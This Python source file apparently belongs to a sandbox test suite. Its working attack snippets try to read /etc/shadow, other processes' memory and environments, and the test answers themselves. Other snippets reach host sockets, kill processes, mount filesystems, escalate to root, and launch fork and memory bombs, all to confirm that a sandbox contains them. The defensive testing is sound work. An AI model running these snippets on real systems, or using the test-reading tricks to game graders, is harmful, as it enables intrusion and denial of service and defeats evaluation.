"""Python: programs that try to see or damage what is not theirs. They are right only where they succeed."""

from __future__ import annotations

from attacks import KEY, MARK, PORT, SECRET_FILE, SECRET_NAME, SLEEP, SOCKET, in_language

#: What only a sandbox with namespaces of its own prevents: in tier C, programs see the host's name and sockets.
NEEDS_NAMESPACES = {"a unix socket of the host", "the host's name"}
#: ``attack(x, y)`` raises where it fails; only where it does not are the answers right.
_TRIED = """
tried = []
def add(x, y):
    try:
        tried or tried.append(attack(x, y))
    except BaseException:
        tried.append("failed")
    return x + y if tried[0] is None else 7
"""


def tried(body: str) -> str:
    return f"import ctypes, os, socket, sys\ndef attack(x, y):\n    {body}\n{_TRIED}"


_LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n    "
_SEES = {
    "the shadow file": tried("open('/etc/shadow').read()"),
    "root's home": tried("os.listdir('/root')"),
    "a file in the host's /tmp": tried(f"open('{SECRET_FILE}').read()"),
    "the host's environment": tried(
        "import glob\n    texts = [repr(os.environ)]\n    for p in glob.glob('/proc/[0-9]*/environ'):\n"
        "        try: texts.append(open(p).read())\n        except OSError: pass\n"
        f"    assert any('{SECRET_NAME}' in t for t in texts)"
    ),
    "the host's command lines": tried(
        "import glob\n    assert any('pytest' in open(p).read() for p in glob.glob('/proc/[0-9]*/cmdline'))"
    ),
    "tests on its command line": tried("assert 'assert add' in open('/proc/self/cmdline').read()"),
    "tests in a file of the working directory": tried(
        "assert any('assert add' in open(os.path.join(d, f), errors='replace').read()\n"
        "               for d, _, fs in os.walk('.') for f in fs)"
    ),
    "tests in the caller's code": tried(
        "mark = chr(97) + 'ssert add'\n    f = sys._getframe().f_back.f_back\n    while f:\n"
        "        if mark in repr(f.f_code.co_consts) or mark in repr(f.f_locals.get('tests')): return\n"
        "        f = f.f_back\n    raise ValueError"
    ),
    "tests among all objects": tried(
        "import gc\n    gc.unfreeze()\n    mark = chr(97) + 'ssert add('\n"
        "    assert any(mark in str(o) for c in gc.get_objects() if type(c) in (list, tuple, dict)\n"
        "               for o in (c.values() if type(c) is dict else c) if type(o) in (str, bytes))"
    ),
    "tests in its own memory": tried(
        "first, second = b'ssert ', b'add(2, 3) == 5'\n    libc, (read, write) = ctypes.CDLL(None), os.pipe()\n"
        "    for near in (id(object()), ctypes.addressof(ctypes.c_int()), id(sys.modules)):\n"
        "        for page in range((near >> 14 << 14) - (1 << 25), near + (1 << 25), 1 << 14):\n"
        "            n = libc.write(write, ctypes.c_void_p(page), 1 << 14)\n"
        "            data = os.read(read, n) if n > 0 else b''\n            at = data.find(second)\n"
        "            if at >= 6 and data[at - 6:at] == first: return\n    raise ValueError"
    ),
    "another process's memory": tried(
        "import glob\n    me = os.readlink('/proc/self')\n    for p in glob.glob('/proc/[0-9]*/mem'):\n"
        "        if p.split('/')[2] != me:\n            try: return open(p, 'rb').close()\n"
        "            except OSError: pass\n    raise ValueError"
    ),
    "another process's descriptors": tried(
        "import glob\n    me = os.readlink('/proc/self')\n    for p in glob.glob('/proc/[0-9]*/fd'):\n"
        "        if p.split('/')[2] != me:\n            try: return os.readlink(f'{p}/{os.listdir(p)[0]}') and None\n"
        "            except (OSError, IndexError): pass\n    raise ValueError"
    ),
    "ptrace of its parent": tried(_LIBC + "assert libc.ptrace(16, os.getppid() or 1, 0, 0) == 0"),
    "process_vm_readv of its parent": tried(
        _LIBC + "b = ctypes.create_string_buffer(8)\n"
        "    v = (ctypes.c_void_p * 2)(ctypes.addressof(b), 8)\n    w = (ctypes.c_void_p * 2)(id(int), 8)\n"
        "    assert libc.process_vm_readv(os.getppid() or 1, v, 1, w, 1, 0) > 0"
    ),
    "the kernel's log": tried(_LIBC + "b = ctypes.create_string_buffer(64)\n    assert libc.klogctl(3, b, 64) > 0"),
    "the host's container sockets": tried("os.stat('/var/run/docker.sock')"),
}
_REACHES = {
    "TCP to the host": tried(f"socket.create_connection(('127.0.0.1', {PORT}), 1).send(b'x')"),
    "TCP over IPv6": tried(f"socket.create_connection(('::1', {PORT}), 1).send(b'x')"),
    "UDP to the host": tried(
        f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(('127.0.0.1', {PORT}))\n"
        "    s.send(b'x')\n    s.send(b'x')\n    raise ValueError('whether it arrived, the host knows')"
    ),
    "UDP to the world": tried("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))"),
    "a name of the world": tried("socket.getaddrinfo('example.com', 80)"),
    "a unix socket of the host": tried(f"socket.socket(socket.AF_UNIX).connect('/tmp/{SOCKET}')"),
    "an abstract unix socket of the host": tried(f"socket.socket(socket.AF_UNIX).connect('\\0{SOCKET}')"),
    "a raw socket": tried("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
    "a packet socket": tried("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    "the network's settings": tried(
        "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n    s.bind((0, 0))\n"
        "    s.send(bytes.fromhex('140000001200010300000000000000000000000000000000')[:20])\n"
        "    assert b'eth0' in s.recv(65536)"
    ),
    "a VM's host": tried("socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1024))"),
}
_DAMAGES = {
    "becomes root": tried("os.setuid(0)\n    open('/etc/shadow')"),
    "kills its parent": tried("os.kill(os.getppid() or 1, 9)\n    raise ValueError"),
    "kills all that it may": tried(
        "import time\n    if os.fork() == 0:\n        os.setsid()\n        try: os.kill(-1, 9)\n"
        "        except OSError: pass\n        os._exit(0)\n    time.sleep(0.1)\n    raise ValueError"
    ),
    "kills process after process": tried(
        "for pid in range(1, 40000):\n        if pid != os.getpid():\n            try: os.kill(pid, 9)\n"
        "            except OSError: pass\n    raise ValueError"
    ),
    "stops its parent": tried("import signal\n    os.kill(os.getppid() or 1, signal.SIGSTOP)\n    raise ValueError"),
    "mounts": tried(_LIBC + "assert libc.mount(b'tmpfs', b'/mnt', b'tmpfs', 0, None) == 0"),
    "unmounts": tried(_LIBC + "assert libc.umount2(b'/proc', 2) == 0"),
    "a user namespace of its own": tried(
        _LIBC + "assert libc.unshare(0x10000000 | 0x20000) == 0\n"
        "    assert libc.mount(b'none', b'/', None, 0x44000, None) == 0"
    ),
    "a namespace of another process": tried(
        _LIBC + "fd = os.open(f'/proc/{os.getppid() or 1}/ns/mnt', os.O_RDONLY)\n    assert libc.setns(fd, 0) == 0"
    ),
    "changes the root": tried("os.mkdir('r')\n    os.chroot('r')"),
    "makes a device": tried("os.mknod('disk', 0o60666, os.makedev(8, 0))\n    open('disk', 'rb')"),
    "loads a program into the kernel": tried(
        _LIBC + "a = ctypes.create_string_buffer(64)\n    assert libc.syscall(321, 0, a, 64) >= 0"
    ),
    "asks for a keyring": tried(_LIBC + "assert libc.syscall(248, b'user', b'rr', b'x', 1, -4) > 0"),
    "writes into the system": tried(f"open('/usr/{MARK}', 'w')"),
    "writes into the interpreter's library": tried(
        f"import json\n    open(os.path.join(os.path.dirname(json.__file__), '{MARK}.py'), 'w')"
    ),
    "writes a core pattern": tried("open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')"),
    "leaves its control group": tried("open('/sys/fs/cgroup/cgroup.procs', 'w').write(str(os.getpid()))"),
    "raises its limits": tried(
        "import resource\n    for r in (resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):\n"
        "        resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))"
    ),
    "takes the processor for itself": tried("os.nice(-10)"),
    "types into the terminal": tried("import fcntl\n    fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, b'x')"),
}
_LEAVES = {
    "files wherever it may": tried(
        "for d in ('.', '/tmp', '/dev/shm', '/var/tmp', '/run', '/', '/dev', '/mnt', os.path.expanduser('~')):\n"
        f"        try: open(os.path.join(d, '{MARK}_py'), 'w').write('x')\n        except OSError: pass\n"
        "    raise ValueError"
    ),
    "files that another program left": tried(
        f"assert any('{MARK}' in name for d in ('.', '/tmp', '/dev/shm', '/var/tmp', '/') if os.path.isdir(d)\n"
        "               for name in os.listdir(d))"
    ),
    "memory shared by name": tried(
        _LIBC + f"i = libc.shmget({KEY}, 4096, 0o1666)\n    assert i >= 0\n    libc.semget({KEY}, 1, 0o1666)\n"
        f"    libc.msgget({KEY}, 0o1666)\n    raise ValueError"
    ),
}
_STAYS = {
    "links out of its directory": tried(
        f"os.symlink('/etc/passwd', '{MARK}_link')\n    os.symlink('/', '{MARK}_root')\n    os.mkfifo('{MARK}_pipe')\n"
        f"    os.makedirs('{MARK}/a/b')\n    os.chmod('{MARK}/a', 0)\n    os.chmod('{MARK}', 0)\n    os.chmod('.', 0)\n"
        "    raise ValueError"
    ),
    "a directory that cannot be walked": tried(
        f"for i in range(1500):\n        os.mkdir('{MARK}' + 'd' * 200)\n        os.chdir('{MARK}' + 'd' * 200)\n"
        "    raise ValueError"
    ),
    "its directory is gone": tried("os.rmdir(os.getcwd())\n    raise ValueError"),
    "its directory is another": tried(f"os.rename(os.getcwd(), os.getcwd() + '_{MARK}')\n    raise ValueError"),
    "a process in a session of its own": tried(
        "import subprocess\n"
        f"    subprocess.Popen(['sleep', '{SLEEP}'], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)\n"
        "    raise ValueError"
    ),
    "a daemon": tried(
        "if os.fork() == 0:\n        os.setsid()\n        if os.fork(): os._exit(0)\n        os.closerange(0, 256)\n"
        f"        os.execvp('sleep', ['sleep', '{SLEEP}'])\n    raise ValueError"
    ),
}
_SLOW = {
    "a daemon that holds the result stream": tried(
        f"if os.fork() == 0:\n        os.setsid()\n        if os.fork(): os._exit(0)\n"
        "        for fd in range(256):\n            try: os.set_inheritable(fd, True)\n            except OSError: pass\n"
        f"        os.execvp('sleep', ['sleep', '{SLEEP}'])\n    os._exit(0)"
    ),
    "fork bomb": "import os\ndef add(x, y):\n    while True:\n        try: os.fork()\n        except OSError: pass\n",
    "fork bomb of daemons": "import os\ndef add(x, y):\n    while True:\n        try:\n            if os.fork() == 0:\n"
    "                os.setsid()\n                os.closerange(0, 256)\n        except OSError: pass\n",
    "thread bomb": "import threading, time\ndef add(x, y):\n    while True:\n"
    "        try: threading.Thread(target=time.sleep, args=(600,)).start()\n        except RuntimeError: pass\n",
    "memory bomb": "def add(x, y):\n    v = []\n    while True: v.append(bytearray(1 << 24))\n",
    "memory bomb in many processes": "import os, time\ndef add(x, y):\n    for _ in range(24):\n"
    "        if os.fork() == 0:\n            v = bytearray(b'x') * (100 << 20)\n            time.sleep(600)\n"
    "    time.sleep(600)\n",
    "memory in the file system": "def add(x, y):\n    for i in range(10000):\n"
    "        with open(f'f{i}', 'wb') as f: f.write(b'x' * (4 << 20))\n    return x + y\n",
    "files without number": "def add(x, y):\n    for i in range(200000): open(f'f{i}', 'w').close()\n    return x + y\n",
    "descriptors without number": "import os\ndef add(x, y):\n    for _ in range(1 << 20): os.dup(0)\n    return x + y\n",
    "deaf and busy": "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\ndef add(x, y):\n    while True: pass\n",
    "deaf and asleep": "import signal, time\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\ndef add(x, y):\n    while True: time.sleep(600)\n",
    "catches everything": "def add(x, y):\n    while True:\n        try:\n            while True: pass\n"
    "        except BaseException: pass\n",
    "busy in C": "def add(x, y): return 10 ** 10 ** 9\n",
    "busy in a regular expression": "import re\ndef add(x, y): return re.match('(a+)+$', 'a' * 60 + 'b')\n",
    "many busy processes": "import os\ndef add(x, y):\n    for _ in range(12):\n        if os.fork() == 0:\n"
    "            while True: pass\n    while True: pass\n",
    "processes that share the work": "import os, time\ndef add(x, y):\n    while True:\n        if os.fork() == 0:\n"
    "            end = time.process_time() + 0.4\n            while time.process_time() < end: pass\n"
    "            os._exit(0)\n        os.wait()\n",
    "output without end": "def add(x, y):\n    while True: print('x' * 65536)\n",
    "errors without end": "import sys\ndef add(x, y):\n    while True: sys.stderr.write('x' * 65536)\n",
    "answers without end": "import os\ndef add(x, y):\n    while True:\n        for fd in range(3, 16):\n"
    "            try: os.write(fd, b'x' * 65536)\n            except OSError: pass\n",
    "an answer letter by letter": "import os, time\ndef add(x, y):\n    while True:\n        os.write(4, b'[')\n"
    "        time.sleep(0.2)\n",
    "a value that is slow to read": "import time\nclass L(list):\n    def __iter__(s):\n        while True: yield 1\n"
    "class D(dict):\n    def items(s):\n        while True: yield 1, 1\ndef add(x, y):\n    while True: list(L())\n",
    "recursion without end": "import sys, threading\nsys.setrecursionlimit(1 << 30)\ndef add(x, y): return add(x, y)\n",
    "a literal that fills the memory": "x = ((((1 << 30) * 'x') * 2) * 2)\ndef add(x, y): return x + y\n",
}
_COMPILER = {
    "compiled for ever": "def add(x, y):\n    return " + "-" * 3000 + "1\n" + "x = (" + "[" * 90 + "]" * 90 + ")\n",
}
ATTACKS = (
    in_language("python", _SEES)
    + in_language("python", _REACHES)
    + in_language("python", _DAMAGES)
    + in_language("python", _LEAVES)
    + in_language("python", _STAYS)
    + in_language("python", _COMPILER, compiles=False)
    + in_language("python", _SLOW, slow=True)
)
